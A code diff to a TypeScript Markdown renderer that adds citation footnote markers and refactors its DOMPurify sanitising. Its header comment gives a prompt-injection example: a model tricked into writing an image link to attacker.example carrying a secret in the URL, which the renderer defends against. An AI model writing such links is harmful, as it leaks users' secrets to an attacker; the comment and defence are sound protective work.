@@ -3,6 +3,9 @@
  * the source is shown as text (never passed through), and DOMPurify sanitises the result.
  * Links open in a new tab without access to this page.
  *
+ * With citations, footnote markers are carried through Markdown as placeholders and put in place
+ * in the sanitised result (citations.ts, citation_dom.ts).
+ *
  * Images load only from this page's origin or an allowed domain. A model can be talked into
  * writing `![x](https://attacker.example/leak?<secret>)` (prompt injection); the browser would
  * fetch it and leak the query string, so any other image becomes a plain link instead.
@@ -10,6 +13,8 @@
  */
 import DOMPurify from "dompurify";
 import { Marked, type Tokens } from "marked";
+import { insertMarkers } from "./citation_dom.ts";
+import { type Citations, stripPlaceholders, withPlaceholders } from "./citations.ts";
 
 const ESCAPES: Record<string, string> = {
   "&": "&amp;",
@@ -28,6 +33,8 @@ export function escapeHtml(text: string): string {
 export interface MarkdownOptions {
   /** Host names whose images are shown (`example.com` also allows `img.example.com`). */
   imageDomains?: readonly string[];
+  /** Footnote markers to draw at their places in the text (the Sources list is drawn apart). */
+  citations?: Citations;
 }
 
 /**
@@ -77,9 +84,39 @@ const marked = new Marked({
 
 let hooked = false;
 
+const SANITIZE = {
+  FORBID_TAGS: [
+    "style",
+    "form",
+    "input",
+    "button",
+    "textarea",
+    "select",
+    "iframe",
+    "picture",
+    "source",
+    "video",
+    "audio",
+    "object",
+    "embed",
+  ],
+  FORBID_ATTR: ["style", "srcset"],
+};
+
+/**
+ * marked's HTML for `source`, NOT sanitised: only for renderMarkdown and for unit tests that
+ * have no DOMPurify (it needs a browser DOM).
+ */
+export function markdownToUnsafeHtml(source: string, options: MarkdownOptions = {}): string {
+  imageDomains = options.imageDomains ?? [];
+  return marked.parse(source) as string;
+}
+
 /** Renders Markdown to sanitised HTML (browser only: DOMPurify needs a DOM). */
 export function renderMarkdown(source: string, options: MarkdownOptions = {}): string {
-  if (!DOMPurify.isSupported) return escapeHtml(source);
+  const markers = options.citations?.markers ?? [];
+  const text = markers.length ? withPlaceholders(source, markers) : source;
+  if (!DOMPurify.isSupported) return escapeHtml(stripPlaceholders(text));
   if (!hooked) {
     hooked = true;
     DOMPurify.addHook("afterSanitizeAttributes", (node) => {
@@ -93,24 +130,11 @@ export function renderMarkdown(source: string, options: MarkdownOptions = {}): s
       }
     });
   }
-  imageDomains = options.imageDomains ?? [];
-  const html = marked.parse(source) as string;
-  return DOMPurify.sanitize(html, {
-    FORBID_TAGS: [
-      "style",
-      "form",
-      "input",
-      "button",
-      "textarea",
-      "select",
-      "iframe",
-      "picture",
-      "source",
-      "video",
-      "audio",
-      "object",
-      "embed",
-    ],
-    FORBID_ATTR: ["style", "srcset"],
-  });
+  const html = markdownToUnsafeHtml(text, options);
+  if (!markers.length) return DOMPurify.sanitize(html, SANITIZE);
+  const fragment = DOMPurify.sanitize(html, { ...SANITIZE, RETURN_DOM_FRAGMENT: true });
+  const holder = document.createElement("div");
+  holder.appendChild(fragment);
+  insertMarkers(holder, markers, options.citations!.footnotes);
+  return holder.innerHTML;
 }
